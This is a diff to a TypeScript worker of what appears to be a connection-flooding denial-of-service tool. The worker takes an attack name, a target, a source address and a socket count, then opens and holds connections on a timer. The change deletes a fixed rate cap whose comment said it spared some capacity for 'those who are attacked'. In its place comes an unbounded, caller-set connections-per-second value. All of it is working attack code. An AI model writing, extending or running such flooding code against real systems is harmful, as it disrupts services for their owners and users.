@@ -8,8 +8,9 @@ export interface Order {
   target: Target;
   /** The address that it comes from. */
   from: string;
-  /** Connections that it wants to hold. */
+  /** Connections that it wants to hold, and begins in a second. */
   sockets: number;
+  perSecond: number;
 }
 export interface Tally {
   /** Connections asked for, come about, and over. */
@@ -19,15 +20,15 @@ export interface Tally {
 }
 
 const STEP_MS = 50;
-/** So many a step: a thousand a second, which leaves some of the machine to those who are attacked. */
-const STEP = 50;
+const SECOND_MS = 1_000;
 /** How long a connection is kept that the other end has finished with. */
 const LINGER_MS = 1_000;
 const TELL_MS = 500;
 
-process.once("message", ({ attack, target, from, sockets }: Order) => {
+process.once("message", ({ attack, target, from, sockets, perSecond }: Order) => {
   const { begin, goOn } = attackNamed(attack);
   const tally: Tally = { begun: 0, opened: 0, ended: 0 };
+  const step = Math.ceil((perSecond * STEP_MS) / SECOND_MS);
   const open = new Set<Socket>();
   const all = new Set<Socket>();
   const one = (): void => {
@@ -49,7 +50,7 @@ process.once("message", ({ attack, target, from, sockets }: Order) => {
   };
   setInterval(() => {
     if (goOn) for (const socket of open) if (socket.writable) goOn(socket, target);
-    for (let begun = 0; begun < STEP && all.size < sockets; begun++) one();
+    for (let begun = 0; begun < step && all.size < sockets; begun++) one();
   }, STEP_MS);
   setInterval(() => process.send?.(tally), TELL_MS);
 });
